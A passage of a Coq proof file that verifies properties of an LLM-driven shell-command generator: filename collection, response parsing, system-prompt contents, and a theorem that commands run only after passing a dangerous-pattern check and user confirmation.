  induction s as [|c s IH]; [reflexivity|].
  cbn [strings.TrimRight].
  destruct (strings.TrimRight s) as [|d t] eqn:E.
  - destruct (strings.asciiSpace c) eqn:F; [reflexivity|].
    simpl. now rewrite F.
  - cbn [strings.TrimRight]. cbn [strings.TrimRight] in IH.
    now rewrite IH.
Qed.

Lemma TrimLeft_head (s : string) :
  strings.TrimLeft s = "" \/
  exists c t, strings.TrimLeft s = String c t /\ strings.asciiSpace c = false.
Proof.
  induction s as [|c s IH]; simpl; [now left|].
  destruct (strings.asciiSpace c) eqn:E; [exact IH|].
  right. now exists c, s.
Qed.

Lemma TrimRight_head (c : ascii) (t : string) :
  strings.asciiSpace c = false ->
  exists t', strings.TrimRight (String c t) = String c t'.
Proof.
  intros Hc. cbn [strings.TrimRight].
  destruct (strings.TrimRight t); [rewrite Hc|]; now eexists.
Qed.

(** What [TrimSpace] returns has no whitespace around it. *)
Lemma TrimSpace_idem (s : string) :
  strings.TrimSpace (strings.TrimSpace s) = strings.TrimSpace s.
Proof.
  unfold strings.TrimSpace.
  destruct (TrimLeft_head s) as [-> | (c & t & -> & Hc)]; [reflexivity|].
  destruct (TrimRight_head c t Hc) as [t' Ht]. rewrite Ht.
  cbn [strings.TrimLeft]. rewrite Hc, <- Ht. apply TrimRight_idem.
Qed.

Lemma no_LF_app (a b : string) :
  no_LF (a ++ b) = no_LF a && no_LF b.
Proof.
  induction a as [|c a IH]; simpl; [reflexivity|].
  now rewrite IH, andb_assoc.
Qed.

Lemma no_LF_TrimSpace (s : string) :
  no_LF s = true -> no_LF (strings.TrimSpace s) = true.
Proof.
  destruct (TrimSpace_split s) as (a & b & Hs & _ & _).
  intros H. rewrite Hs, !no_LF_app in H.
  apply andb_true_iff in H as [_ H]. now apply andb_true_iff in H as [H _].
Qed.

(* ================================================================== *)
(** ** Collecting the context *)

(** The loop of [getFileList] keeps the visible lines, trimmed, until it
    has [maxFiles] of them, and at least one. *)
Lemma getFileList_loop (maxFiles : Z) (lines acc : list string) :
  (fix loop (lines files : list string) : list string :=
     match lines with
     | [] => files
     | line :: rest =>
         let line := strings.TrimSpace line in
         if (line =? "")%string || strings.HasPrefix line "."
         then loop rest files
         else
           let files := (files ++ [line])%list in
           if maxFiles <=? Z.of_nat (length files) then files
           else loop rest files
     end) lines acc
  = (acc
     ++ firstn (Z.to_nat (Z.max 1 (maxFiles - Z.of_nat (length acc))))
          (filter visible (map strings.TrimSpace lines)))%list.
Proof.
  revert acc; induction lines as [|line lines IH]; intros acc.
  - now rewrite firstn_nil, app_nil_r.
  - cbn [map filter]. unfold visible at 1.
    destruct ((strings.TrimSpace line =? "")%string
              || strings.HasPrefix (strings.TrimSpace line) ".") eqn:E;
      cbn [negb].
    + apply IH.
    + rewrite length_app. cbn [length].
      destruct (maxFiles <=? Z.of_nat (length acc + 1)) eqn:F.
      * apply Z.leb_le in F.
        replace (Z.to_nat (Z.max 1 (maxFiles - Z.of_nat (length acc))))
          with 1%nat by lia.
        reflexivity.
      * apply Z.leb_gt in F. rewrite IH, length_app. cbn [length].
        replace (Z.to_nat (Z.max 1 (maxFiles - Z.of_nat (length acc))))
          with (S (Z.to_nat
                     (Z.max 1 (maxFiles - Z.of_nat (length acc + 1)))))
          by lia.
        cbn [firstn]. now rewrite <- app_assoc.
Qed.



Lemma getFileList_cases (h : context.Host) (c : context.DefaultCollector) :
  (exists err,
     context.ls_Output h = inr err /\
     context.getFileList h c = ([], Some err)) \/
  (exists output,
     context.ls_Output h = inl output /\
     context.getFileList h c =
       (firstn (Z.to_nat (Z.max 1 (context.maxFiles c)))
          (filter visible
             (map strings.TrimSpace
                (strings.Split (strings.TrimSpace output) nl))),
        None)).
Proof.
  destruct (context.ls_Output h) as [output|err] eqn:Hls.
  - right. exists output. split; [reflexivity|].
    unfold context.getFileList. rewrite Hls, getFileList_loop.
    cbn [app length Z.of_nat]. now rewrite Z.sub_0_r.
  - left. exists err. split; [reflexivity|].
    unfold context.getFileList. now rewrite Hls.
Qed.

Lemma In_firstn {A : Type} (x : A) (n : nat) (l : list A) :
  In x (firstn n l) -> In x l.
Proof.
  revert l; induction n as [|n IH]; intros [|y l]; simpl; try tauto.
  intros [-> | H]; [now left | right; now apply IH].
Qed.

(** X14. Every name [getFileList] returns is a name one can show: it is not
    empty, does not start with a dot, has no whitespace around it and holds
    no line feed. *)
Theorem getFileList_names (h : context.Host) (c : context.DefaultCollector)
  (file : string) :
  In file (fst (context.getFileList h c)) ->
  file <> "" /\
  strings.HasPrefix file "." = false /\
  strings.TrimSpace file = file /\
  no_LF file = true.
Proof.
  destruct (getFileList_cases h c)
    as [(err & _ & ->) | (output & _ & ->)]; cbn [fst]; [intros []|].
  intros Hin. apply In_firstn, filter_In in Hin as [Hin Hvisible].
  apply in_map_iff in Hin as (line & <- & Hline).
  unfold visible in Hvisible.
  apply negb_true_iff, orb_false_iff in Hvisible as [Hempty Hdot].
  apply String.eqb_neq in Hempty.
  repeat split; [exact Hempty | exact Hdot | apply TrimSpace_idem |].
  apply no_LF_TrimSpace.
  pose proof (Split_nl_no_LF (strings.TrimSpace output)) as Hall.
  rewrite Forall_forall in Hall. now apply Hall.
Qed.

Lemma getFileList_names_witness :
  "README.md" <> "" /\
  strings.HasPrefix "README.md" "." = false /\
  strings.TrimSpace "README.md" = "README.md" /\
  no_LF "README.md" = true.
Proof.
  apply (getFileList_names
           (context_host
              (inl ("main.go" ++ nl ++ ".git" ++ nl ++ " README.md " ++ nl))
              (fun _ => ""))
           (context.NewDefaultCollector 20) "README.md").
  simpl. right. now left.
Defined.

(** X15. [getFileList] returns at most [maxFiles] names when [maxFiles] is
    at least 1, and at most one name otherwise; when [ls] fails it returns
    no name and the error. *)
Theorem getFileList_bound (h : context.Host) (c : context.DefaultCollector) :
  Z.of_nat (length (fst (context.getFileList h c)))
  <= Z.max 1 (context.maxFiles c) /\
  (forall err,
     context.ls_Output h = inr err ->
     context.getFileList h c = ([], Some err)).
Proof.
  split.
  - destruct (getFileList_cases h c)
      as [(err & _ & ->) | (output & _ & ->)]; cbn [fst length]; [lia|].
    pose proof (firstn_le_length
                  (Z.to_nat (Z.max 1 (context.maxFiles c)))
                  (filter visible
                     (map strings.TrimSpace
                        (strings.Split (strings.TrimSpace output) nl)))).
    lia.
  - intros err Hls. unfold context.getFileList. now rewrite Hls.
Qed.

(** X16. [Collect] fails exactly when the working directory cannot be
    read, and then with that error; a failing [ls] only leaves the list of
    files empty.  In the context it returns the shell is never empty: it is
    the value of SHELL, or "/bin/zsh" when SHELL is unset or empty. *)
Theorem Collect_outcome (h : context.Host) (c : context.DefaultCollector) :
  match context.os_Getwd h with
  | inr err => context.Collect h c = inr err
  | inl wd =>
      exists sysCtx,
        context.Collect h c = inl sysCtx /\
        context.WorkingDir sysCtx = wd /\
        context.Files sysCtx = fst (context.getFileList h c) /\
        context.Shell sysCtx <> "" /\
        context.Shell sysCtx =
          (if (context.os_Getenv h "SHELL" =? "")%string then "/bin/zsh"
           else context.os_Getenv h "SHELL") /\
        ((exists err, context.ls_Output h = inr err) ->
         context.Files sysCtx = [])
  end.
Proof.
  unfold context.Collect.
  destruct (context.os_Getwd h) as [wd|err]; [|reflexivity].
  destruct (context.getFileList h c) as [files e] eqn:Hfiles.
  eexists. split; [reflexivity|]. cbn.
  repeat split.
  - destruct (String.eqb_spec (context.os_Getenv h "SHELL") "");
      [discriminate | assumption].
  - intros [err Hls]. unfold context.getFileList in Hfiles.
    rewrite Hls in Hfiles. congruence.
Qed.

(* ================================================================== *)
(** ** Cleaning the answer of the model *)

Lemma parse_after_trim (response : string) :
  llm.parseCommandFromResponse response
  = llm.parseCommandFromResponse (strings.TrimSpace response).
Proof.
  unfold llm.parseCommandFromResponse. now rewrite TrimSpace_idem.
Qed.

Lemma parse_result (response : string) :
  match llm.parseCommandFromResponse response with
  | inl command => command <> "" /\ strings.TrimSpace command = command
  | inr err => err = errors_New "received empty response from LLM"
  end.
Proof.
  unfold llm.parseCommandFromResponse.
  match goal with
  | |- context [strings.TrimSpace (strings.Trim ?r "`")] =>
      generalize (strings.Trim r "`")
  end.
  intros r. destruct (String.eqb_spec (strings.TrimSpace r) "") as [E|E].
  - reflexivity.
  - split; [exact E | apply TrimSpace_idem].
Qed.

(** X17. What [parseCommandFromResponse] returns is a command that is not
    empty and has no whitespace around it, or else the error "received
    empty response from LLM". *)
Theorem parseCommandFromResponse_result (response : string) :
  match llm.parseCommandFromResponse response with
  | inl command => command <> "" /\ strings.TrimSpace command = command
  | inr err => Error err = "received empty response from LLM"
  end.
Proof.
  pose proof (parse_result response) as H.
  destruct (llm.parseCommandFromResponse response); [exact H | now subst].
Qed.

(** X18. Whitespace around the response is ignored. *)
Theorem parseCommandFromResponse_padding (a response b : string) :
  all_space a = true -> all_space b = true ->
  llm.parseCommandFromResponse (a ++ response ++ b)
  = llm.parseCommandFromResponse response.
Proof.
  intros Ha Hb.
  rewrite (parse_after_trim (a ++ response ++ b)), (parse_after_trim response).
  now rewrite TrimSpace_padded.
Qed.

Lemma parseCommandFromResponse_padding_witness :
  llm.parseCommandFromResponse (("  " ++ nl ++ "  ") ++ "ls -la"
                                ++ ("  " ++ nl ++ "  "))
  = llm.parseCommandFromResponse "ls -la".
Proof.
  apply (parseCommandFromResponse_padding
           ("  " ++ nl ++ "  ") "ls -la" ("  " ++ nl ++ "  "));
    reflexivity.
Defined.

Lemma TrimLeftCutset_length (s cutset : string) :
  (String.length (strings.TrimLeftCutset s cutset) <= String.length s)%nat.
Proof.
  induction s as [|c s IH]; simpl; [lia|].
  destruct (strings.inCutset cutset c); simpl; lia.
Qed.

Lemma TrimRightCutset_length (s cutset : string) :
  (String.length (strings.TrimRightCutset s cutset) <= String.length s)%nat.
Proof.
  induction s as [|c s IH]; simpl; [lia|].
  destruct (strings.TrimRightCutset s cutset); simpl in *.
  - destruct (strings.inCutset cutset c); simpl; lia.
  - lia.
Qed.

(** A string that [Trim] leaves alone does not start with a byte of the
    cutset. *)
Lemma Trim_fixed_head (c : ascii) (s cutset : string) :
  strings.Trim (String c s) cutset = String c s ->
  strings.inCutset cutset c = false.
Proof.
  unfold strings.Trim. cbn [strings.TrimLeftCutset].
  destruct (strings.inCutset cutset c); [|reflexivity].
  intros H. apply (f_equal String.length) in H.
  pose proof (TrimRightCutset_length (strings.TrimLeftCutset s cutset) cutset).
  pose proof (TrimLeftCutset_length s cutset).
  simpl in H. lia.
Qed.

Lemma bare_command_parse (s : string) :
  bare_command s -> llm.parseCommandFromResponse s = inl s.
Proof.
  intros (Hne & Hspace & Hticks). unfold llm.parseCommandFromResponse.
  rewrite Hspace.
  assert (Hfence : strings.HasPrefix s "```" = false).
  { destruct s as [|c s]; [reflexivity|].
    apply Trim_fixed_head in Hticks. simpl in Hticks.
    apply orb_false_iff in Hticks as [Hc _].
    simpl. now rewrite Hc. }
  rewrite Hfence, Hticks, Hspace.
  now destruct (String.eqb_spec s "").
Qed.



Lemma TrimRight_app_fixed (x t : string) :
  t <> "" -> strings.TrimRight t = t ->
  strings.TrimRight (x ++ t) = (x ++ t)%string.
Proof.
  intros Hne Ht. induction x as [|c x IH]; [exact Ht|].
  cbn [append strings.TrimRight]. rewrite IH.
  destruct (x ++ t)%string eqn:E; [|reflexivity].
  destruct x; simpl in E; [congruence | discriminate].
Qed.



(** X21. A response of whitespace only, the empty one included, is the
    error "received empty response from LLM". *)
Theorem parseCommandFromResponse_blank (response : string) :
  all_space response = true ->
  llm.parseCommandFromResponse response
  = inr (errors_New "received empty response from LLM").
Proof.
  intros H. unfold llm.parseCommandFromResponse, strings.TrimSpace.
  now rewrite (TrimLeft_all_space response H).
Qed.

Lemma parseCommandFromResponse_blank_witness :
  llm.parseCommandFromResponse ("   " ++ nl ++ nl ++ "   ")
  = inr (errors_New "received empty response from LLM").
Proof.
  apply (parseCommandFromResponse_blank ("   " ++ nl ++ nl ++ "   ")).
  reflexivity.
Defined.

(* ================================================================== *)
(** ** The prompt and the clients *)

Lemma is_substring_refl (s : string) : is_substring s s.
Proof. exists "", "". simpl. induction s; simpl; congruence. Qed.

Lemma is_substring_app_l (sub a b : string) :
  is_substring sub b -> is_substring sub (a ++ b).
Proof.
  intros (u & v & ->). exists (a ++ u)%string, v. now rewrite append_assoc.
Qed.

Lemma is_substring_app_r (sub a b : string) :
  is_substring sub a -> is_substring sub (a ++ b).
Proof.
  intros (u & v & ->). exists u, (v ++ b)%string. now rewrite !append_assoc.
Qed.

Lemma Join_mentions (elem sep : string) (elems : list string) :
  In elem elems -> is_substring elem (strings.Join elems sep).
Proof.
  induction elems as [|e rest IH]; [intros []|].
  intros [-> | Hin].
  - destruct rest; [apply is_substring_refl|].
    cbn [strings.Join]. apply is_substring_app_r, is_substring_refl.
  - destruct rest as [|e' rest]; [contradiction|].
    change (strings.Join (e :: e' :: rest) sep)
      with (e ++ sep ++ strings.Join (e' :: rest) sep)%string.
    now apply is_substring_app_l, is_substring_app_l, IH.
Qed.

Ltac find_substring_with leaf :=
  first [ leaf
        | apply is_substring_app_r; find_substring_with leaf
        | apply is_substring_app_l; find_substring_with leaf ].

Ltac find_substring := find_substring_with ltac:(apply is_substring_refl).

(** X22. The system prompt names the operating system, the architecture,
    the shell and the working directory of the context, and every file of
    the context; without files it says "(none visible)". *)
Theorem buildSystemPrompt_mentions (sysCtx : context.SystemContext) :
  is_substring (context.OS sysCtx) (llm.buildSystemPrompt sysCtx) /\
  is_substring (context.Arch sysCtx) (llm.buildSystemPrompt sysCtx) /\
  is_substring (context.Shell sysCtx) (llm.buildSystemPrompt sysCtx) /\
  is_substring (context.WorkingDir sysCtx) (llm.buildSystemPrompt sysCtx) /\
  (forall file,
     In file (context.Files sysCtx) ->
     is_substring file (llm.buildSystemPrompt sysCtx)) /\
  (context.Files sysCtx = [] ->
   is_substring "(none visible)" (llm.buildSystemPrompt sysCtx)).
Proof.
  unfold llm.buildSystemPrompt. repeat split.
  - find_substring.
  - find_substring.
  - find_substring.
  - find_substring.
  - intros file Hin.
    destruct (context.Files sysCtx) as [|f files] eqn:Hfiles;
      [contradiction|].
    cbn [length Nat.ltb Nat.leb].
    find_substring_with ltac:(now apply Join_mentions).
  - intros ->. cbn [length Nat.ltb Nat.leb].
    find_substring_with ltac:(now exists "- Available Files: ", "").
Qed.

Lemma GenerateCommand_clean (net : llm.Network) (c : llm.Client)
  (query : string) (sysCtx : context.SystemContext) (command : string) :
  llm.GenerateCommand net c query sysCtx = inl command ->
  command <> "" /\ strings.TrimSpace command = command.
Proof.
  destruct c as [apiKey model | baseURL model]; cbn [llm.GenerateCommand].
  - unfold llm.AnthropicClient_GenerateCommand.
    destruct (llm.Messages_New net apiKey _) as [[|responseText content]|];
      try discriminate.
    pose proof (parse_result responseText) as H.
    destruct (llm.parseCommandFromResponse responseText); [|discriminate].
    intros E. injection E as <-. exact H.
  - unfold llm.OllamaClient_GenerateCommand.
    destruct (llm.json_Marshal net _) as [jsonData|]; [|discriminate].
    destruct (llm.http_NewRequest net _ _ _); [discriminate|].
    destruct (llm.client_Do net _) as [resp|]; [|discriminate].
    destruct (negb (llm.StatusCode resp =? 200)); [discriminate|].
    destruct (llm.json_Decode net _) as [ollamaResp|]; [|discriminate].
    pose proof (parse_result (llm.Response ollamaResp)) as H.
    destruct (llm.parseCommandFromResponse (llm.Response ollamaResp));
      [|discriminate].
    intros E. injection E as <-. exact H.
Qed.

(** X23. Whichever client is behind the interface, a command that
    [GenerateCommand] returns is not empty and has no whitespace around
    it. *)
Theorem GenerateCommand_result (net : llm.Network) (c : llm.Client)
  (query : string) (sysCtx : context.SystemContext) (command : string) :
  llm.GenerateCommand net c query sysCtx = inl command ->
  command <> "" /\ strings.TrimSpace command = command.
Proof. apply GenerateCommand_clean. Qed.

Lemma GenerateCommand_result_witness :
  "ls -la" <> "" /\ strings.TrimSpace "ls -la" = "ls -la".
Proof.
  apply (GenerateCommand_result
           (network_answering ("```bash" ++ nl ++ "ls -la" ++ nl ++ "```"))
           (llm.NewOllamaClient "http://localhost:11434" "qwen2.5-coder:7b")
           "list files" scenario_context "ls -la").
  reflexivity.
Defined.

(* ================================================================== *)
(** ** The program on a machine *)

(** A subprocess is started only on the path of a safe, confirmed command:
    with the shell of the executor and the generated command. *)
Lemma run_Start (env : Env) (input : string) (failure : error)
  (name : string) (arg : list string) :
  In (Start name arg) (trace (snd (run env (initial input failure)))) ->
  exists cfg sysCtx command,
    reaches_gate env cfg sysCtx command /\
    fst (executor.IsDangerous command (config.DangerousPatterns cfg))
    = false /\
    name = (if (context.Shell sysCtx =? "")%string then "/bin/zsh"
            else context.Shell sysCtx) /\
    arg = ["-c"; command].
Proof.
  set (w := initial input failure). intros Hin.
  apply In_executions in Hin; [|reflexivity].
  destruct (main_cases env w)
    as [(cfg & sysCtx & command & Hgate) | (shown & Hshown & Hmain)].
  2: { rewrite (run_main _ _ _ _ Hmain) in Hin. cbn in Hin.
       now rewrite (executions_output _ Hshown) in Hin. }
  exists cfg, sysCtx, command. split; [exact Hgate|].
  pose proof (main_at_gate env cfg sysCtx command w Hgate) as Hmain.
  destruct (gate_total (config.DangerousPatterns cfg) command input)
    as [[[Hd (rest & Hyes)]
        | [Hd (rest1 & rest2 & (L1 & Hin1 & HL1 & Hyes1)
               & (L2 & Hin2 & HL2 & Hyes2))]] | Hcancel].
  - split; [exact Hd|].
    destruct (cmd_Run env
                (if (context.Shell sysCtx =? "")%string then "/bin/zsh"
                 else context.Shell sysCtx)
                ["-c"; command]) as [output err] eqn:Hrun.
    destruct (safe_run_trace env cfg sysCtx command input rest output err
                failure Hgate Hd Hyes Hrun)
      as (w' & before & Hw' & _ & Hnone & Htrace).
    fold w in Hw'. rewrite Hw' in Hin. cbn [snd] in Hin.
    rewrite Htrace, !executions_app, Hnone in Hin.
    cbn [app executions] in Hin.
    assert (Htail : forall t, Forall is_output t -> executions t = [])
      by apply executions_output.
    rewrite Htail in Hin.
    + destruct Hin as [Hin | [Hin | []]]; [discriminate|].
      injection Hin as <- <-. now split.
    + destruct err; [destruct (output =? "")%string|]; repeat constructor.
  - exfalso. subst rest1.
    apply IsDangerous_verdict in Hd as [reason Hd].
    destruct (gate_refuses env cfg sysCtx command w reason L1 L2 rest2
                Hd Hin1 HL1 HL2 Hyes1 Hyes2) as (w' & Hrun & Htrace).
    rewrite Hrun in Hmain. rewrite (run_main _ _ _ _ Hmain) in Hin.
    cbn [snd] in Hin. rewrite Htrace in Hin. cbn in Hin.
    destruct Hin as [Hin | []]. discriminate.
  - exfalso.
    destruct (gate_cancels env cfg sysCtx command w Hcancel)
      as (w' & shown & Hrun & Htrace & Hnone & _).
    rewrite Hrun in Hmain. rewrite (run_main _ _ _ _ Hmain) in Hin.
    cbn [snd] in Hin. rewrite Htrace in Hin. cbn in Hin.
    now rewrite executions_app, Hnone in Hin.
Qed.

Lemma Collect_Shell (h : context.Host) (c : context.DefaultCollector)
  (sysCtx : context.SystemContext) :
  context.Collect h c = inl sysCtx ->
  context.Shell sysCtx =
    (if (context.os_Getenv h "SHELL" =? "")%string then "/bin/zsh"
     else context.os_Getenv h "SHELL").
Proof.
  unfold context.Collect.
  destruct (context.os_Getwd h); [|discriminate].
  destruct (context.getFileList h c).
  intros H. now injection H as <-.
Qed.


